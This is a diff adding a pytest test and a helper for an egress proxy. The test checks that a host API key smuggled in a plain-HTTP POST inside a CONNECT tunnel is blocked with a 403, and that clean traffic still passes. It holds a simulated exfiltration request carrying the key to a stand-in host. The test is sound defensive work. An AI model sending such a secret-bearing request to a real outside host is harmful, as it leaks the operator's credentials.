@@ -349,6 +349,50 @@ def test_a_host_secret_in_a_plain_http_head_or_a_gzip_body_is_refused(plain_prox
     assert forward_mod._held[0] == 0  # every held compressed body gave its bytes back to the budget
 
 
+def tunnel(port: int, upstream_port: int, inner: bytes) -> bytes:
+    """CONNECT to plain.example, then `inner` through the tunnel: what comes back after the 200."""
+    with socket.create_connection(("127.0.0.1", port), timeout=5) as sock:
+        sock.sendall(b"CONNECT plain.example:%d HTTP/1.1\r\nHost: plain.example:%d\r\n\r\n" % (upstream_port, upstream_port))
+        got = b""
+        while b"\r\n\r\n" not in got:
+            got += sock.recv(4096)
+        assert got.startswith(b"HTTP/1.1 200"), got
+        sock.sendall(inner)
+        out = got.partition(b"\r\n\r\n")[2]
+        try:
+            while chunk := sock.recv(65536):
+                out += chunk
+        except OSError:
+            pass
+        return out
+
+
+@pytest.mark.parametrize("framing", ["length", "chunked"])
+def test_a_host_secret_sent_as_plain_http_inside_a_tunnel_is_refused(plain_proxy, framing: str, report: Report) -> None:
+    """Node's fetch tunnels http:// through CONNECT (relay/box/nodeproxy.py): the proxy sees plain HTTP
+    there too, so the box's requests inside the tunnel pass the same scan."""
+    upstream = PlainUpstream()
+    port, log = plain_proxy(upstream, HostSecrets([secret_forms("the anthropic route's key", HOST_KEY)]))  # type: ignore[list-item]
+    body = b"dump=" + HOST_KEY.encode() + b"&pad=" + b"y" * 2000
+    inner = post(upstream.port, body, framing).replace(b"POST http://plain.example:%d/upload" % upstream.port, b"POST /upload")
+    answer = tunnel(port, upstream.port, inner)
+    time.sleep(0.2)
+    blocked = (status_of(answer) == b"403" and b"secret of the host" in answer
+               and not any(HOST_KEY.encode()[13:28] in g for g in upstream.got))
+    report.attack(blocked)
+    assert blocked, (answer, upstream.got)
+    assert any(e.get("tunnel") and e["decision"] == "secret" for e in entries(log, 2))
+    clean = body.replace(HOST_KEY.encode(), b"placeholder")
+    answer = tunnel(port, upstream.port, post(upstream.port, clean, framing).replace(
+        b"POST http://plain.example:%d/upload" % upstream.port, b"POST /upload"))
+    time.sleep(0.2)
+    got = upstream.got[-1] if upstream.got else b""
+    works = status_of(answer) == b"200" and (got.endswith(clean) if framing == "length"
+                                              else dechunk(got.partition(b"\r\n\r\n")[2]) == clean)
+    report.legit(works)
+    assert works, (answer, got[-200:])
+
+
 @pytest.fixture(scope="module")
 def ssh_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
     require_tool("ssh-keygen")
